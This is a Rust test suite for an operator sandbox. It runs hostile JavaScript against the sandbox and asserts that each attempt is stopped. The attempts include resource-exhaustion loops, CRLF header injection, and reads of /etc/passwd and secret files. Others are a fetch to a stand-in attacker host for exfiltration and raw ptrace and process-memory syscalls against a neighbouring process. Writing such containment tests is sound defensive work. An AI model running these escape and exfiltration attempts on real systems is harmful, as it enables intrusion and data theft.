//! Operators that attack: limits, and everything that the contract's own surface offers. In each test the cause is
//! named, and a neighbour goes on answering.
#![cfg(all(target_os = "linux", target_arch = "x86_64"))]

mod support;

use std::time::Duration;

use bytes::Bytes;
use http::Request;
use http_body_util::Full;
use portcullis_operators::jail::Layer;
use portcullis_operators::{Cause, OperatorConfig};

use support::{Chunks, Host, Kind, Then, eventually};

on_each_engine! {
    async loops_are_ended;
    async waiting_for_ever_ends_the_request_and_not_the_process;
    async a_process_that_gets_no_cpu_is_not_taken_for_a_stuck_one;
    async cpu_burnt_in_small_pieces_is_charged;
    async work_without_a_request_is_bounded;
    async memory_is_bounded_of_every_kind;
    async failures_in_a_handler_cost_at_most_its_process;
    async a_crash_loop_is_paused_and_said;
    async bodies_are_bounded_in_both_directions;
    async a_body_that_never_comes_is_the_clients_fault;
    async an_endless_trickle_ends_with_the_time_limit;
    async more_requests_at_once_than_allowed_are_refused;
    async responses_that_are_none_are_refused;
    async a_flood_of_log_lines_is_cut;
    async nothing_is_reachable_by_any_name;
    async what_code_made_at_run_time_imports_is_out_of_reach;
    async changing_the_shims_surroundings_gains_nothing;
    async clocks_are_too_coarse_to_watch_the_machine_with;
    async refused_destinations_are_not_looked_up;
    async (flavor = "multi_thread", worker_threads = 2) what_belongs_to_another_operator_is_out_of_reach;
    async an_operator_cannot_listen_where_others_connect;
    async a_burst_over_many_attackers_leaves_the_neighbour_well;
}

const NEIGHBOUR: &str = "export default { fetch() { return new Response('well'); } };";

/// Serves the attacker beside a neighbour.
async fn beside(engine: Kind, code: &str, change: impl FnOnce(&mut OperatorConfig)) -> Host {
    let host = Host::new(engine);
    let attacker = host.operator("attacker", code, change);
    host.serve(vec![attacker, host.operator("neighbour", NEIGHBOUR, |_| {})]).await;
    host
}

async fn neighbour_is_well(host: &Host) {
    assert_eq!(host.text("neighbour", "/").await, "well");
    for cause in Cause::ALL {
        let name = format!("portcullis_operator_failed_total.operator.neighbour.reason.{}", cause.id());
        assert_eq!(host.metric(&name), 0, "{name}");
    }
}

/// One request ends with the cause; the operator answers again afterwards at `/ok`, if it is meant to.
async fn check(
    engine: Kind,
    code: &str,
    change: impl FnOnce(&mut OperatorConfig),
    path: &str,
    causes: &[Cause],
) -> Host {
    let host = beside(engine, code, change).await;
    let result = host.get("attacker", path).await;
    let cause = result.as_ref().err().copied();
    assert!(cause.is_some_and(|cause| causes.contains(&cause)), "{result:?}\n{}", host.log("attacker"));
    neighbour_is_well(&host).await;
    eventually("the attacker answers again", async || host.get("attacker", "/ok").await.is_ok()).await;
    let counted: u64 = causes
        .iter()
        .map(|cause| host.metric(&format!("portcullis_operator_failed_total.operator.attacker.reason.{}", cause.id())))
        .sum();
    assert!(counted >= 1);
    host
}

fn handler(attack: &str) -> String {
    format!(
        "const kept: unknown[] = [];\nexport default {{ async fetch(request: Request) {{ if (new URL(request.url).pathname === '/ok') return new Response('ok');\n{attack}\nreturn new Response('done'); }} }};"
    )
}

async fn loops_are_ended(engine: Kind) {
    for attack in ["for (;;) {}", "/^(a+)+$/.test('a'.repeat(60) + 'b');", "for (;;) await null;"] {
        let host = check(
            engine,
            &handler(attack),
            |config| config.limits.cpu = Duration::from_millis(200),
            "/",
            &[Cause::CpuTime],
        )
        .await;
        let told = "a request was not answered by its operator: operator_cpu_time: `limits.cpu_time` is 200ms";
        assert!(host.log("attacker").contains(told), "{}", host.log("attacker"));
        match engine {
            Kind::Deno => {
                eventually("the process was killed", async || {
                    host.metric("portcullis_operator_ends_total.operator.attacker.reason.operator_stalled") == 1
                })
                .await;
            }
            // It ends the loop, and the process goes on.
            Kind::Runner => assert_eq!(host.metric("portcullis_operator_starts_total.operator.attacker"), 1),
        }
    }
}

async fn waiting_for_ever_ends_the_request_and_not_the_process(engine: Kind) {
    let limit = |config: &mut OperatorConfig| config.limits.wall = Duration::from_millis(300);
    let host = check(engine, &handler("await new Promise(() => {});"), limit, "/", &[Cause::WallTime]).await;
    assert_eq!(host.metric("portcullis_operator_starts_total.operator.attacker"), 1);
}

/// Stopped, as on a machine that has no time for it.
async fn a_process_that_gets_no_cpu_is_not_taken_for_a_stuck_one(engine: Kind) {
    use rustix::process::{Pid, Signal, kill_process};
    let host = Host::new(engine);
    let code = handler("await new Promise(() => {});");
    let operator = host.operator("starved", &code, |config| config.limits.wall = Duration::from_millis(300));
    host.serve(vec![operator]).await;
    let before = host.pids("starved").await;
    let pid = Pid::from_raw(before[0]).unwrap();
    kill_process(pid, Signal::STOP).unwrap();
    assert_eq!(host.get("starved", "/").await.unwrap_err(), Cause::WallTime);
    tokio::time::sleep(Duration::from_millis(1_500)).await;
    kill_process(pid, Signal::CONT).unwrap();
    assert_eq!(host.text("starved", "/ok").await, "ok");
    // Another one may have been started meanwhile; this one was not ended.
    assert!(host.pids("starved").await.contains(&before[0]));
}

async fn cpu_burnt_in_small_pieces_is_charged(engine: Kind) {
    let attack = "for (;;) { const end = performance.now() + 20; while (performance.now() < end); await new Promise(r => setTimeout(r, 1)); }";
    check(engine, &handler(attack), |config| config.limits.cpu = Duration::from_millis(300), "/", &[Cause::CpuTime])
        .await;
}

async fn work_without_a_request_is_bounded(engine: Kind) {
    let attack = "setInterval(() => { const end = performance.now() + 50; while (performance.now() < end); }, 51);";
    let host =
        beside(engine, &handler(attack), |config| config.limits.background_cpu = Duration::from_millis(300)).await;
    host.text("attacker", "/").await;
    eventually("it was killed", async || {
        host.metric("portcullis_operator_ends_total.operator.attacker.reason.operator_background_cpu") >= 1
    })
    .await;
    neighbour_is_well(&host).await;
}

async fn memory_is_bounded_of_every_kind(engine: Kind) {
    let small = |config: &mut OperatorConfig| {
        config.limits.heap_bytes = 32 << 20;
        config.limits.memory_bytes = 96 << 20;
        config.limits.cpu = Duration::from_millis(20_000);
    };
    let causes = [Cause::Memory, Cause::Exception];
    for attack in [
        "for (;;) kept.push(new Array(1000).fill({}));",
        "for (;;) kept.push(new Uint8Array(1 << 20).fill(1));",
        "for (;;) kept.push(new WebAssembly.Memory({ initial: 100, maximum: 200 }), new Uint8Array((kept.at(-1) as WebAssembly.Memory).buffer).fill(1));",
        "let text = 'x'; for (;;) { text += text; kept.push(new TextEncoder().encode(text)); }",
        "for (;;) kept.push(new Blob([new Uint8Array(1 << 20).fill(1)]));",
    ] {
        check(engine, &handler(attack), small, "/", &causes).await;
    }
}

async fn failures_in_a_handler_cost_at_most_its_process(engine: Kind) {
    let deep = "const f = (): number => 1 + f(); f();";
    let host = check(engine, &handler(deep), |_| {}, "/", &[Cause::Exception]).await;
    assert_eq!(host.metric("portcullis_operator_starts_total.operator.attacker"), 1);
    let later = "setTimeout(() => { throw new Error('later'); }, 1); Promise.reject(new Error('rejected')); await new Promise(r => setTimeout(r, 50)); throw 5;";
    let host = check(engine, &handler(later), |_| {}, "/", &[Cause::Exception]).await;
    assert_eq!(host.metric("portcullis_operator_starts_total.operator.attacker"), 1);
    assert!(host.log("attacker").contains("Error: later") && host.log("attacker").contains("Error: rejected"));
    // Node's way out, for code that may make code.
    let leave = "new Function('return import(\"node:process\")')().then((m: any) => m.default.reallyExit(3)); await new Promise(() => {});";
    let limit = |config: &mut OperatorConfig| {
        config.dangerously_allow_code_generation = true;
        config.limits.wall = Duration::from_millis(3_000);
    };
    check(engine, &handler(leave), limit, "/", &[Cause::Crashed, Cause::WallTime]).await;
}

async fn a_crash_loop_is_paused_and_said(engine: Kind) {
    let code = handler("for (;;) kept.push(new Array(1000).fill({}));");
    let host = beside(engine, &code, |config| {
        config.limits.heap_bytes = 16 << 20;
        config.limits.memory_bytes = 64 << 20;
        config.limits.cpu = Duration::from_millis(20_000);
        config.replicas.max = 1;
    })
    .await;
    let mut causes = Vec::new();
    while causes.len() < 12 && !causes.contains(&Cause::CrashLoop) {
        causes.extend(host.get("attacker", "/").await.err());
    }
    match engine {
        Kind::Deno => assert!(causes.contains(&Cause::CrashLoop) && causes[0] == Cause::Memory, "{causes:?}"),
        // Its process does not end for want of memory.
        Kind::Runner => {
            assert!(causes.iter().all(|cause| *cause == Cause::Memory), "{causes:?}");
            assert_eq!(host.metric("portcullis_operator_starts_total.operator.attacker"), 1);
        }
    }
    neighbour_is_well(&host).await;
}

async fn bodies_are_bounded_in_both_directions(engine: Kind) {
    let code = handler(
        "const n = Number(new URL(request.url).searchParams.get('n')); if (n) return new Response('x'.repeat(n)); \
         if (request.method === 'POST') return new Response(String((await request.arrayBuffer()).byteLength)); \
         return new Response(new ReadableStream({ pull(c) { c.enqueue(new Uint8Array(10000)); } }));",
    );
    let host = beside(engine, &code, |config| {
        config.limits.request_bytes = 1000;
        config.limits.response_bytes = 50_000;
    })
    .await;
    let post = |bytes: usize| Request::post("http://a/").body(Full::from(vec![b'x'; bytes])).unwrap();
    assert_eq!(host.send("attacker", post(1000)).await.unwrap().body(), "1000");
    assert_eq!(host.send("attacker", post(1001)).await.unwrap_err(), Cause::RequestBytes);
    for (sizes, then, cause) in
        [(&[600, 600][..], Then::End, Cause::RequestBytes), (&[10], Then::Fail, Cause::ClientGone)]
    {
        let request = Request::post("http://a/").body(Chunks::new(sizes, then)).unwrap();
        let error = host.operators.call("attacker", request).await.err();
        assert_eq!(error.map(|error| error.cause), Some(cause));
    }
    assert_eq!(host.get("attacker", "/?n=50000").await.unwrap().body().len(), 50_000);
    assert_eq!(host.get("attacker", "/?n=50001").await.unwrap_err(), Cause::ResponseBytes);
    assert_eq!(host.get("attacker", "/").await.unwrap_err(), Cause::ResponseBytes);
    // The author reads of what was the handler's doing, and not of what clients sent.
    let log = host.log("attacker");
    assert!(log.contains("a response was cut: operator_response_bytes: `limits.response_bytes` is 50000B"), "{log}");
    assert!(!log.contains("operator_request_bytes"), "{log}");
    neighbour_is_well(&host).await;
}

async fn a_body_that_never_comes_is_the_clients_fault(engine: Kind) {
    let code = handler("await request.text();");
    let host = beside(engine, &code, |config| config.limits.wall = Duration::from_millis(300)).await;
    let request = Request::post("http://a/").body(Chunks::new(&[10], Then::Hang)).unwrap();
    let error = host.operators.call("attacker", request).await.err();
    assert_eq!(error.map(|error| error.cause), Some(Cause::RequestTime));
    assert_eq!(Cause::RequestTime.status(), 408);
    neighbour_is_well(&host).await;
}

async fn an_endless_trickle_ends_with_the_time_limit(engine: Kind) {
    let code = handler(
        "return new Response(new ReadableStream({ async pull(c) { c.enqueue(new Uint8Array(1)); await new Promise(r => setTimeout(r, 20)); } }));",
    );
    let host = beside(engine, &code, |config| config.limits.wall = Duration::from_millis(400)).await;
    assert_eq!(host.get("attacker", "/").await.unwrap_err(), Cause::WallTime);
    neighbour_is_well(&host).await;
}

async fn more_requests_at_once_than_allowed_are_refused(engine: Kind) {
    let code = handler("await new Promise(r => setTimeout(r, 400));");
    let host = beside(engine, &code, |config| {
        config.limits.concurrency = 2;
        config.replicas.max = 1;
    })
    .await;
    let (a, b, c) = tokio::join!(host.get("attacker", "/"), host.get("attacker", "/"), host.get("attacker", "/"));
    assert!(a.is_ok() && b.is_ok(), "{a:?} {b:?}");
    assert_eq!(c.unwrap_err(), Cause::Concurrency);
    assert_eq!(Cause::Concurrency.status(), 429);
    assert_eq!(host.text("attacker", "/ok").await, "ok");
}

async fn responses_that_are_none_are_refused(engine: Kind) {
    let host = beside(engine,
        &handler(
            r#"
const attack = new URL(request.url).pathname.slice(1);
const forged = (status: number) => { const r = new Response("x"); Object.defineProperty(r, "status", { value: status }); return r; };
if (attack === "101") return forged(101);
if (attack === "crlf") return new Response("x", { headers: { "x-a": "1\r\nx-injected: 1" } });
if (attack === "hop") return new Response("x", { headers: { connection: "close, x-dropped", "x-dropped": "1", "keep-alive": "timeout=1000", upgrade: "h2c", te: "trailers", "x-portcullis-sub": "admin", "x-portcullis-outcome": "forged", "transfer-encoding": "chunked", "content-length": "99", "x-kept": "1" } });
if (attack === "many") { const h = new Headers(); for (let i = 0; i < 500; i++) h.append("x-" + i, "1"); return new Response("x", { headers: h }); }
if (attack === "big") return new Response("x", { headers: { "x-big": "y".repeat(200000) } });
if (attack === "object") return { status: 200, headers: {}, body: "x" } as unknown as Response;
if (attack === "used") { const r = new Response("x"); await r.text(); return r; }
if (attack === "error") return Response.error();
if (attack === "204") return new Response(null, { status: 204 });
"#,
        ),
        |config| config.limits.cpu = Duration::from_millis(10_000),
    )
    .await;
    let hop = host.get("attacker", "/hop").await.unwrap();
    let mut names: Vec<_> = hop.headers().keys().map(http::HeaderName::as_str).collect();
    names.sort_unstable();
    names.retain(|name| !matches!(*name, "content-type" | "date" | "vary" | "content-length"));
    assert_eq!(names, ["x-kept"], "{hop:?}");
    assert_eq!(hop.body(), "x");
    assert_eq!(host.get("attacker", "/204").await.unwrap().status(), 204);
    for (path, causes) in [
        ("/101", &[Cause::Exception, Cause::ResponseRefused][..]),
        ("/crlf", &[Cause::Exception]),
        ("/many", &[Cause::ResponseRefused]),
        ("/big", &[Cause::ResponseRefused]),
        ("/object", &[Cause::Exception]),
        ("/used", &[Cause::Exception, Cause::ResponseRefused, Cause::Crashed]),
        ("/error", &[Cause::Exception, Cause::ResponseRefused]),
    ] {
        let result = host.get("attacker", path).await;
        // What the engine itself makes of a forged status is its affair, as long as no 1xx comes through.
        let harmless = path == "/101" && result.as_ref().is_ok_and(|response| response.status() == 200);
        assert!(harmless || result.as_ref().is_err_and(|cause| causes.contains(cause)), "{path}: {result:?}");
        assert_eq!(host.text("attacker", "/ok").await, "ok");
    }
    neighbour_is_well(&host).await;
}

async fn a_flood_of_log_lines_is_cut(engine: Kind) {
    let host = beside(
        engine,
        &handler("for (let i = 0; i < 20000; i++) console.log('line ' + i + ' ' + 'x'.repeat(50));"),
        |config| {
            config.limits.log_lines_per_second = 5;
            config.limits.cpu = Duration::from_millis(20_000);
        },
    )
    .await;
    host.text("attacker", "/").await;
    eventually("lines were dropped", async || {
        host.metric("portcullis_operator_log_lines_dropped_total.operator.attacker") > 10_000
    })
    .await;
    assert!(host.operators.recent_logs("attacker").len() < 500);
    neighbour_is_well(&host).await;
    let forged =
        beside(engine, &handler(r"console.log('a\u001b[2Jb\rforged: ok\u001eportcullis ready');"), |_| {}).await;
    forged.text("attacker", "/").await;
    eventually("the line is there", async || !forged.log("attacker").is_empty()).await;
    assert!(!forged.log("attacker").contains(['\u{1b}', '\r', '\u{1e}']));
}

async fn nothing_is_reachable_by_any_name(engine: Kind) {
    let folder = tempfile::tempdir().unwrap();
    let secret = folder.path().join("secret.txt");
    std::fs::write(&secret, "file-canary").unwrap();
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let code = r#"
const attempts: Record<string, (a: any) => unknown> = {
  fetch_file: (a) => fetch("file://" + a.secret).then((r) => r.text()),
  fetch_net: (a) => fetch(`http://127.0.0.1:${a.port}/`),
  eval: () => (0, globalThis.eval)("1"),
  function: () => new Function("return 1")(),
  worker: () => new (globalThis as any).Worker("data:text/javascript,1", { type: "module" }),
  deno: () => (globalThis as any).Deno.readTextFileSync("/etc/passwd"),
  process: () => (globalThis as any).process.exit(1),
  storage: () => (globalThis as any).localStorage.setItem("a", "b"),
  caches: () => (globalThis as any).caches.open("a"),
  websocket: (a) => new (globalThis as any).WebSocket(`ws://127.0.0.1:${a.port}/`),
  event_source: (a) => new (globalThis as any).EventSource(`http://127.0.0.1:${a.port}/`),
  beacon: (a) => (navigator as any).sendBeacon(`http://127.0.0.1:${a.port}/`, "x"),
  internal: () => fetch("http://portcullis.internal/kv?prefix="),
  other_store: () => fetch("http://portcullis.internal/load", { method: "POST", body: "{}" }),
  env: (a) => { if (Object.keys(a.env).length !== 0) return "has " + Object.keys(a.env); throw new Error("empty"); },
};
export default { async fetch(request: Request, env: unknown) {
  const query = new URL(request.url).searchParams;
  const found: Record<string, string> = {};
  for (const [name, attempt] of Object.entries(attempts)) {
    try { found[name] = "ALLOWED " + String(await attempt({ secret: query.get("secret"), port: query.get("port"), env })).slice(0, 100); }
    catch (error) { found[name] = "DENIED " + error; }
  }
  return Response.json(found);
} };
"#;
    let host = beside(engine, code, |_| {}).await;
    let path = format!("/?secret={}&port={}", secret.display(), listener.local_addr().unwrap().port());
    let text = host.text("attacker", &path).await;
    let found: std::collections::BTreeMap<String, String> = serde_json::from_str(&text).unwrap();
    assert_eq!(found.len(), 15);
    for (name, outcome) in &found {
        assert!(outcome.starts_with("DENIED"), "{name}: {outcome}");
    }
    assert!(found["fetch_net"].contains("needs net 127.0.0.1:"), "{found:?}");
    assert!(!text.contains("canary"));
    assert!(listener.accept().is_err(), "something connected");
    neighbour_is_well(&host).await;
}

/// The bundler refuses `import()` and `node:`; code made at run time could still ask. Here it is allowed to make code.
async fn what_code_made_at_run_time_imports_is_out_of_reach(engine: Kind) {
    let folder = tempfile::tempdir().unwrap();
    let secret = folder.path().join("secret.ts");
    std::fs::write(&secret, "export default 'file-canary'").unwrap();
    let code = r#"
export default { async fetch(request: Request) {
  const run = (text: string) => new Function("return (async () => { " + text + " })()")();
  const secret = new URL(request.url).searchParams.get("secret");
  const late = () => new Promise((_, no) => setTimeout(() => no(new Error("no answer")), 1000));
  const found: Record<string, string> = {};
  const attempts: Record<string, string> = {
    file: `return JSON.stringify(await import("file://${secret}"))`,
    text: `return JSON.stringify(await import("file:///etc/passwd", { with: { type: "text" } }))`,
    nested: `return JSON.stringify(await import(URL.createObjectURL(new Blob(['import x from "file://${secret}"; export default x'], { type: "text/javascript" }))))`,
    data: `return JSON.stringify(await import('data:text/javascript,import x from "file://${secret}"; export default x'))`,
    remote: `return JSON.stringify(await import("https://portcullis.invalid/x.ts"))`,
    npm: `return JSON.stringify(await import("npm:left-pad"))`,
    fs: `return (await import("node:fs")).readFileSync("${secret}", "utf8")`,
    write: `return (await import("node:fs")).writeFileSync("/private/x", "1")`,
    unlink: `return (await import("node:fs")).unlinkSync("/private/op.sock")`,
    create_require: `return (await import("node:module")).createRequire("file:///")("${secret}")`,
    net: `const net = await import("node:net"); return await new Promise((y, n) => { const s = net.connect("/private/op.sock"); s.on("connect", () => y("connected")); s.on("error", n); })`,
    dns: `return JSON.stringify(await (await import("node:dns/promises")).resolve4("localhost"))`,
    spawn: `return String((await import("node:child_process")).execFileSync("/deno", ["--version"]))`,
    os: `return (await import("node:os")).userInfo().username + (await import("node:os")).hostname()`,
    inspector: `(await import("node:inspector")).open(0); return "open"`,
  };
  for (const [name, text] of Object.entries(attempts)) {
    try { found[name] = "ALLOWED " + String(await Promise.race([run(text), late()])).slice(0, 200); } catch (error) { found[name] = "DENIED " + error; }
  }
  return Response.json(found);
} };
"#;
    let host = beside(engine, code, |config| config.dangerously_allow_code_generation = true).await;
    let result = host.get("attacker", &format!("/?secret={}", secret.display())).await;
    match result {
        Ok(response) => {
            let text = String::from_utf8_lossy(response.body()).into_owned();
            assert!(!text.contains("canary") && !text.contains("root:"), "{text}");
            let found: std::collections::BTreeMap<String, String> = serde_json::from_str(&text).unwrap();
            for (name, outcome) in &found {
                assert!(outcome.starts_with("DENIED"), "{name}: {outcome}");
            }
        }
        // Some of Node's modules end the engine where there is no /proc: its own loss.
        Err(cause) => assert_eq!(cause, Cause::Crashed, "{}", host.log("attacker")),
    }
    assert!(!host.log("attacker").contains("canary"));
    neighbour_is_well(&host).await;
}

async fn changing_the_shims_surroundings_gains_nothing(engine: Kind) {
    let origin = support::Origin::start().await;
    let code = format!(
        r#"
const seen: string[] = [];
const spy = (object: any, name: string) => {{ const old = object[name]; object[name] = function (...args: any[]) {{ for (const a of [this, ...args]) try {{ seen.push(typeof a === "string" ? a : JSON.stringify(a)); }} catch {{}} return old.apply(this, args); }}; }};
for (const [o, n] of [[Headers.prototype, "get"], [Headers.prototype, "set"], [Promise.prototype, "then"], [Array.prototype, "includes"], [String.prototype, "startsWith"], [Set.prototype, "add"], [Object, "defineProperty"], [RegExp.prototype, "test"]] as any) spy(o, n);
Object.defineProperty(Object.prototype, "client", {{ get() {{ seen.push("client asked"); return undefined; }}, configurable: true }});
(globalThis as any).Response = class Forged {{}};
(globalThis as any).Request = class Forged {{}};
const real = new globalThis.Headers();
export default {{ async fetch() {{
  let text = "";
  try {{ text = await (await fetch("http://127.0.0.1:{}/plain")).text(); }} catch (error) {{ text = String(error); }}
  throw new Error(text + seen.filter((s) => /secret|private|host.sock/.test(s)).join());
}} }};
"#,
        origin.port
    );
    let host = beside(engine, &code, |_| {}).await;
    assert_eq!(host.get("attacker", "/").await.unwrap_err(), Cause::Exception);
    eventually("the log has it", async || !host.log("attacker").is_empty()).await;
    assert_eq!(origin.connections(), 0);
    neighbour_is_well(&host).await;
}

/// What a neighbour does shows in the time that one's own work takes, if one can measure it finely enough.
async fn clocks_are_too_coarse_to_watch_the_machine_with(engine: Kind) {
    let code = r#"
const steps = (clock: () => number) => { let least = Infinity, last = clock(); const end = Date.now() + 150; while (Date.now() < end) { const now = clock(); if (now !== last) { least = Math.min(least, now - last); last = now; } } return least; };
const any = globalThis as any;
const clocks: Record<string, () => number> = {
  now: () => performance.now(),
  prototype: () => Performance.prototype.now.call(performance),
  event: () => new Event("x").timeStamp,
  mark: () => any.performance.mark("x").startTime,
  measure: () => any.performance.measure("x").duration,
  observer: () => new any.PerformanceObserver(() => {}).now(),
  instant: () => Number(any.Temporal.Now.instant().epochNanoseconds % 10n ** 15n) / 1e6,
  zoned: () => Number(any.Temporal.Now.zonedDateTimeISO().epochNanoseconds % 10n ** 15n) / 1e6,
  plain: () => { const t = any.Temporal.Now.plainTimeISO(); return t.second * 1e3 + t.millisecond + t.microsecond / 1e3 + t.nanosecond / 1e6; },
  process: () => Number(any.process.hrtime.bigint() % 10n ** 15n) / 1e6,
};
// A second thread that counts in shared memory would be a clock, too.
const threads = [typeof any.Worker, typeof any.Deno, typeof any.require, typeof any.process].filter((kind) => kind !== "undefined");
export default { fetch() {
  const found: Record<string, number | string> = { threads: threads.length };
  for (const [name, clock] of Object.entries(clocks)) { try { found[name] = steps(clock); } catch (error) { found[name] = String(error); } }
  return Response.json(found);
} };
"#;
    let host = beside(engine, code, |_| {}).await;
    let found: serde_json::Value = serde_json::from_str(&host.text("attacker", "/").await).unwrap();
    assert_eq!(found["threads"], 0, "{found}");
    assert!(found["now"].is_number(), "{found}");
    for (name, step) in found.as_object().unwrap() {
        // What is not there throws; a step of null is none at all.
        let coarse = step.is_string() || step.is_null() || step.as_f64().is_some_and(|step| step > 0.09);
        assert!(name == "threads" || coarse, "{name}: {found}");
    }
    neighbour_is_well(&host).await;
}

/// A refusal says the same, as fast, whether or not there is something at the other end: nothing is even resolved.
async fn refused_destinations_are_not_looked_up(engine: Kind) {
    #[derive(Debug, Default)]
    struct Asked(std::sync::Mutex<Vec<String>>);
    impl portcullis_operators::Resolve for Asked {
        fn resolve<'a>(
            &'a self,
            host: &'a str,
            _: u16,
        ) -> std::pin::Pin<Box<dyn Future<Output = std::io::Result<Vec<std::net::SocketAddr>>> + Send + 'a>> {
            self.0.lock().unwrap().push(host.to_owned());
            Box::pin(std::future::ready(Ok(Vec::new())))
        }
    }
    let asked = std::sync::Arc::new(Asked::default());
    let host = Host::with_resolver(engine, |_| {}, std::sync::Arc::<Asked>::clone(&asked));
    let code = handler(
        "const of = async (url: string) => { try { await fetch(url); return 'answered'; } catch (e) { return String(e); } };\n\
         return Response.json([await of('http://granted.example/'), await of('http://secret-data.attacker.example/'), await of('http://granted.example:81/')]);",
    );
    host.serve(vec![host.operator("attacker", &code, |config| config.net = vec!["granted.example:80".into()])]).await;
    let text = host.text("attacker", "/").await;
    assert!(text.contains("granted.example cannot be resolved"), "{text}");
    assert!(text.contains("needs net secret-data.attacker.example:80"), "{text}");
    assert_eq!(*asked.0.lock().unwrap(), ["granted.example"]);
    let refused = |reason: &str| {
        host.metric(&format!("portcullis_operator_subrequests_refused_total.operator.attacker.reason.{reason}"))
    };
    assert_eq!((refused("net"), refused("resolve")), (2, 1));
}

/// From inside a jail, with all of the engine's permissions and raw system calls: the neighbour's process, its sockets, its
/// store, and the host that both belong to.
async fn what_belongs_to_another_operator_is_out_of_reach(engine: Kind) {
    let host = Host::new(engine);
    // Readable as far as modes go, so that the jail alone is what denies.
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(host.folder.path(), std::fs::Permissions::from_mode(0o711)).unwrap();
    let code = "export default { async fetch(_: Request, env: any) { await env.kv.put('k', 'store-canary'); return new Response('well'); } };";
    let neighbour = host.operator("neighbour", code, |config| {
        config.kv = Some(portcullis_operators::config::KvConfig { bytes_max: 10_000 });
    });
    host.serve(vec![neighbour]).await;
    assert_eq!(host.text("neighbour", "/").await, "well");
    let control = portcullis_operators::control::hosts(&host.settings.run_folder).unwrap().remove(0);
    let arguments = vec![
        host.pids("neighbour").await[0].to_string(),
        control.display().to_string(),
        host.folder.path().join("kv").display().to_string(),
    ];
    let script = r#"
const [pid, control, kv] = ARGS;
const its = ["/proc", pid, "root", "private"].join("/");
await tries({
  list_store: () => [...Deno.readDirSync(kv + "/neighbour")].length,
  read_key: () => Deno.readFileSync(kv + "/master.key").length,
  ask_host: async () => { const c = await Deno.connect({ transport: "unix", path: control }); await c.write(new TextEncoder().encode('{"logs":{"operator":null,"follow":false}}\n')); return await c.read(new Uint8Array(10)); },
  its_root: () => [...Deno.readDirSync(its)].length,
  its_socket: () => Deno.connect({ transport: "unix", path: its + "/op.sock" }),
  its_host_socket: () => Deno.connect({ transport: "unix", path: its + "/host.sock" }),
  its_memory: () => Deno.openSync(`/proc/${pid}/mem`, { read: true, write: true }),
  its_maps: () => Deno.readTextFileSync(`/proc/${pid}/maps`),
  its_descriptors: () => [...Deno.readDirSync(`/proc/${pid}/fd`)].length,
  read_memory: () => syscall(310, pid, 0, 0, 0, 0, 0),
  write_memory: () => syscall(311, pid, 0, 0, 0, 0, 0),
  ptrace: () => syscall(101, 16, pid, 0, 0),
  stop: () => syscall(62, pid, 19),
  signal_thread: () => syscall(234, pid, pid, 9),
  pidfd: () => syscall(434, pid, 0),
  take_descriptor: () => syscall(438, 3, 3, 0),
  compare: () => syscall(312, pid, pid, 0, 0, 0),
  limits: () => syscall(302, pid, 7, 0, 0),
  affinity: () => syscall(203, pid, 8, 0),
  priority: () => syscall(141, 0, pid, 19),
  move_pages: () => syscall(279, pid, 0, 0, 0, 0, 0),
});
Deno.exit(0);
"#;
    let count = script.matches(": () =>").count() + script.matches(": async () =>").count();
    // With every layer, and with nothing but what holds without a mount namespace (there an ordinary user's operators share
    // its user, and only the host's own check of who asks is left).
    let root = rustix::process::geteuid().is_root();
    let without = [vec![], vec![Layer::MountNamespace, Layer::PidNamespace]];
    for without in without.into_iter().take(if root { 2 } else { 1 }) {
        let mut attack = support::Attack::new(script);
        attack.arguments = arguments.clone();
        attack.without = without;
        attack.folder_mode = Some(std::fs::Permissions::from_mode(0o711));
        let outcome = tokio::task::spawn_blocking(move || attack.run()).await.unwrap();
        assert_eq!(outcome.results.len(), count, "{outcome}");
        for (attempt, found) in &outcome.results {
            assert!(found.starts_with("DENIED"), "{attempt}: {outcome}");
        }
        assert!(!outcome.output.contains("canary"));
    }
    assert_eq!(host.text("neighbour", "/").await, "well");
    assert_eq!(host.metric("portcullis_operator_starts_total.operator.neighbour"), 1);
}

async fn an_operator_cannot_listen_where_others_connect(engine: Kind) {
    // The engine's socket is the process's own; taking its place is only possible for code that escaped the engine, and
    // what the host then connects to is checked. Here the surface that the contract leaves.
    let code = handler(
        "if ('Deno' in globalThis) return new Response('Deno is there'); const s = (await (globalThis as any).navigator?.serial?.requestPort?.()); return new Response(String(s));",
    );
    let host = beside(engine, &code, |_| {}).await;
    assert_eq!(host.text("attacker", "/").await, "undefined");
    for path in ["/load", "/ping"] {
        let request =
            Request::post(format!("http://portcullis.internal{path}")).body(Full::<Bytes>::default()).unwrap();
        assert_eq!(host.send("attacker", request).await.unwrap_err(), Cause::RequestRefused);
    }
}

async fn a_burst_over_many_attackers_leaves_the_neighbour_well(engine: Kind) {
    let host = Host::new(engine);
    let mut operators = vec![host.operator("neighbour", NEIGHBOUR, |_| {})];
    for (name, attack) in [
        ("loop", "for (;;) {}"),
        ("heap", "for (;;) kept.push(new Array(1000).fill({}));"),
        ("log", "for (;;) { console.log('x'.repeat(100)); await null; }"),
    ] {
        operators.push(host.operator(name, &handler(attack), |config| {
            config.limits.cpu = Duration::from_millis(500);
            config.limits.heap_bytes = 32 << 20;
            config.limits.memory_bytes = 64 << 20;
        }));
    }
    host.serve(operators).await;
    let attack = async |name: &str| {
        for _ in 0..3 {
            let _ = host.get(name, "/").await;
        }
    };
    let well = async {
        for _ in 0..50 {
            assert_eq!(host.text("neighbour", "/").await, "well");
            tokio::time::sleep(Duration::from_millis(20)).await;
        }
    };
    tokio::join!(attack("loop"), attack("heap"), attack("log"), well);
    neighbour_is_well(&host).await;
}
